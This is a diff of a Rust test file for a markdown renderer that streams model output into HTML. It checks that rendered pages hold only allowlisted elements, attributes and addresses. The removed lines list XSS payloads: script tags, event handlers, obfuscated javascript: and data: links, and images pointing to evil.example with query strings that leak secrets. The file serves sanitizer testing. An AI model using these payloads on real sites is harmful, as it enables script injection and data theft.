@@ -1,159 +1,94 @@
-//! Whatever a model writes, the page gets elements, attributes and addresses from a short list only.
+//! Whatever a model writes, the page gets elements, attributes and addresses from a short list only, and a browser
+//! makes of our HTML exactly the tree that the patches count on.
 
+#[path = "support/allowed.rs"]
+mod allowed;
+#[path = "support/attacks.rs"]
+mod attacks;
+#[path = "support/browser.rs"]
+mod browser;
+#[path = "support/corpus.rs"]
+mod corpus;
 #[path = "support/page.rs"]
 mod page;
+#[path = "support/pieces.rs"]
+mod pieces;
+#[path = "support/safety.rs"]
+mod safety;
 
-use markdown::{Options, Stream, render};
-use page::{Node, Page, parse};
+use pieces::in_pieces_of_sizes;
 
-/// Every element that may appear, with its attributes.
-const ALLOWED: &[(&str, &[&str])] = &[
-    ("a", &["href", "title", "rel", "target"]),
-    ("blockquote", &[]),
-    ("br", &[]),
-    ("button", &["type", "class", "data-src", "title"]),
-    ("code", &["class"]),
-    ("del", &[]),
-    ("div", &["class", "id", "role", "tabindex", "aria-label"]),
-    ("em", &[]),
-    ("figcaption", &[]),
-    ("figure", &["class", "data-language"]),
-    ("h1", &["id"]),
-    ("h2", &["id"]),
-    ("h3", &["id"]),
-    ("h4", &["id"]),
-    ("h5", &["id"]),
-    ("h6", &["id"]),
-    ("hr", &[]),
-    ("input", &["type", "disabled", "checked"]),
-    ("li", &[]),
-    ("ol", &["class", "start"]),
-    ("p", &["class"]),
-    ("pre", &["tabindex"]),
-    ("span", &["class"]),
-    ("strong", &[]),
-    ("sup", &["class"]),
-    ("table", &[]),
-    ("tbody", &[]),
-    ("td", &["class"]),
-    ("th", &["class"]),
-    ("thead", &[]),
-    ("tr", &[]),
-    ("ul", &["class"]),
-];
+/// The sizes of deltas that attacks are streamed in, in turn: an attack may hide in any cut.
+const SIZES: [&[usize]; 4] = [&[1], &[2, 7, 3], &[3, 5], &[11, 1, 5, 23]];
 
-const ATTACKS: &[&str] = &[
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg/onload=alert(1)>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<a href=\"javascript:alert(1)\">x</a>",
-    "text <b onmouseover=alert(1)>x</b>",
-    "<math><mtext></p><img src onerror=alert(1)>",
-    "<!--><script>alert(1)</script>-->",
-    "<style>*{background:url(https://evil.example)}</style>",
-    "<form action=https://evil.example><button>x</button></form>",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](&#106;avascript:alert(1))",
-    "[x](javascript&colon;alert(1))",
-    "[x](java&Tab;script:alert(1))",
-    "[x](<java\tscript:alert(1)>)",
-    "[x](\u{1}javascript:alert(1))",
-    "[x](vbscript:msgbox(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD4=)",
-    "[x](file:///etc/passwd)",
-    "[x](//evil.example)",
-    "[x](https:evil.example)",
-    "[x](https:\\\\evil.example)",
-    "[x](https://good.example\\@evil.example)",
-    "[x](https://%65vil.example/)",
-    "[x](https://e.x/\"onclick=\"alert(1))",
-    "[x](https://e.x 'a\" onclick=\"alert(1)')",
-    "[x][y]\n\n[y]: javascript:alert(1)",
-    "[y]: data:text/html,x \"t\"\n\n[y]",
-    "<javascript:alert(1)>",
-    "<data:text/html,x>",
-    "![x](https://evil.example/?secret=1)",
-    "![x][y]\n\n[y]: https://evil.example/?secret=1",
-    "![x][]\n\n[x]: https://evil.example/?secret=1",
-    "![x]\n\n[x]: https://evil.example/?secret=1",
-    "[![x](https://evil.example/i.png)](https://evil.example/)",
-    "[x ![y](javascript:alert(1))](javascript:alert(2))",
-    "![x](javascript:alert(1))",
-    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
-    "![\"onload=alert(1)](https://e.x/i)",
-    "```\"onclick=alert(1)\nx\n```",
-    "```x\" class=\"y\n</code></pre><script>alert(1)</script>\n```",
-    "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
-    "| <script> |\n|---|\n| ![x](https://evil.example/) |",
-    "> [!NOTE]\n> <img src=x onerror=alert(1)>",
-    "# <img src=x onerror=alert(1)>",
-    "\0<script>\0alert(1)</script>",
-    "https://evil.example/\"><script>alert(1)</script>",
-    "www.evil.example/'onclick='alert(1)",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "\\<script>alert(1)\\</script>",
-];
-
-fn check(nodes: &[Node], inside: &[&str], source: &str) {
-    for node in nodes {
-        let Node::Element { name, attributes, children } = node else { continue };
-        let (_, allowed) = ALLOWED
-            .iter()
-            .find(|(element, _)| element == name)
-            .unwrap_or_else(|| panic!("<{name}> in {source:?}"));
-        assert!(!(name == "a" && inside.contains(&"a")), "a link in a link: {source:?}");
-        for (attribute, value) in attributes {
-            assert!(allowed.contains(&attribute.as_str()), "{attribute} of <{name}> in {source:?}");
-            let value = &value.to_ascii_lowercase();
-            let is_web = value.starts_with("http://") || value.starts_with("https://");
-            match attribute.as_str() {
-                "href" => assert!(
-                    is_web || value.starts_with("mailto:") || value.starts_with("#m-note-"),
-                    "{value} in {source:?}"
-                ),
-                "data-src" => assert!(is_web, "{value} in {source:?}"),
-                "rel" => assert_eq!(value, "noopener noreferrer nofollow"),
-                "target" => assert_eq!(value, "_blank"),
-                "id" => assert!(value.starts_with("m-"), "{value} in {source:?}"),
-                _ => {}
-            }
-        }
-        let inside: Vec<&str> = inside.iter().copied().chain([name.as_str()]).collect();
-        check(children, &inside, source);
+/// Checks every document, at once and streamed, and tells all that fail.
+fn check(documents: impl IntoIterator<Item = String>) {
+    let mut failures = Vec::new();
+    for (source, sizes) in documents.into_iter().zip(SIZES.into_iter().cycle()) {
+        let streamed = || safety::check_streamed(in_pieces_of_sizes(&source, sizes));
+        failures.extend(safety::check(&source).and_then(|()| streamed()).err());
     }
-}
-
-fn options() -> Options {
-    Options { id_prefix: "m-".to_owned(), ..Options::default() }
+    assert!(failures.is_empty(), "{} fail:\n\n{}", failures.len(), failures.join("\n\n"));
 }
 
 #[test]
-fn attacks_yield_allowed_elements_only() {
-    for attack in ATTACKS {
-        for source in [
+fn html_stays_text() {
+    check(attacks::HTML.iter().flat_map(|attack| {
+        [
             (*attack).to_owned(),
             format!("- {attack}\n"),
             format!("> a {attack} b\n"),
             format!("a\n\n{attack}\n\nb {attack}"),
-        ] {
-            check(&parse(&render(&source, &options())), &[], &source);
-            let mut stream = Stream::new(options());
-            let mut page = Page::default();
-            for (at, c) in source.char_indices() {
-                page.apply(&stream.push(&source[at..at + c.len_utf8()]));
-                check(&page.tree(), &[], &source[..at]);
-            }
+            format!("| a |\n|---|\n| {attack} |"),
+            format!("# {attack}\n[{attack}](https://e.x/ '{attack}') ![{attack}](https://e.x/)"),
+            format!("```{attack}\n{attack}\n```\n[^{attack}]\n\n[^{attack}]: {attack}"),
+        ]
+    }));
+}
+
+#[test]
+fn addresses_lead_where_they_say_or_nowhere() {
+    let every = |form: &&str| {
+        attacks::ADDRESSES.iter().map(|address| form.replace("{}", address)).collect::<Vec<_>>()
+    };
+    check(attacks::FORMS.iter().flat_map(every));
+}
+
+#[test]
+fn documents_made_to_break_out_do_not() {
+    check(attacks::DOCUMENTS.iter().map(|document| (*document).to_owned()));
+}
+
+#[test]
+fn examples_and_answers_are_safe() {
+    for name in ["spec", "regression", "footnotes", "table", "gfm_table", "blockquotes_tags"] {
+        check(page::examples(name).into_iter().map(|(source, _)| source));
+    }
+    for (name, document) in corpus::corpus() {
+        if let Err(error) = safety::check(&document) {
+            panic!("{name}: {error}");
         }
     }
 }
 
+/// A list that allows everything would let every test pass.
 #[test]
-fn examples_yield_allowed_elements_only() {
-    for name in ["spec", "regression", "footnotes", "table", "blockquotes_tags"] {
-        for (source, _) in page::examples(name) {
-            check(&parse(&render(&source, &options())), &[], &source);
-        }
+fn the_checks_can_fail() {
+    for html in [
+        "<img src=\"https://e.x/\">",
+        "<p onclick=\"x\">a</p>",
+        "<a href=\"javascript:x\">a</a>",
+        "<a href=\"https://evil.example/\" title=\"good.example\">a</a>",
+        "<a href=\"https://e.x/\" title=\"e.x (\u{202e})\">a</a>",
+        "<a href=\"#m-note-1\">1</a>",
+        "<h1 id=\"m-1\">a</h1><h1 id=\"m-1\">b</h1>",
+        "<h1 id=\"body\">a</h1>",
+        "<span class=\"line overlay\">a</span>",
+        "<code class=\"language-x copy\">a</code>",
+        "<button type=\"button\" data-src=\"data:x\">a</button>",
+    ] {
+        assert!(allowed::check(&browser::parse(html, "div")).is_err(), "{html}");
     }
+    let repaired = "<p>a<p>b</p></p>";
+    assert_ne!(browser::parse(repaired, "div"), page::parse(repaired));
 }
